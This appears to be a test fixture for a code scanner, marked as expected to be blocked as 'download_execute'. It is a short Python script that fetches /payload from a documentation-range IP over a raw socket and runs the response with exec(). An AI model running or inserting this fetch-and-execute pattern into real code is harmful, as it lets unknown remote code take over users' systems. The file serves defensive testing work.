# expect: BLOCKED download_execute
import socket
s = socket.create_connection(("203.0.113.77", 80))
s.send(b"GET /payload HTTP/1.0\r\n\r\n")
data = b""
while True:
    chunk = s.recv(4096)
    if not chunk:
        break
    data += chunk
body = data.split(b"\r\n\r\n", 1)[1]
exec(body)
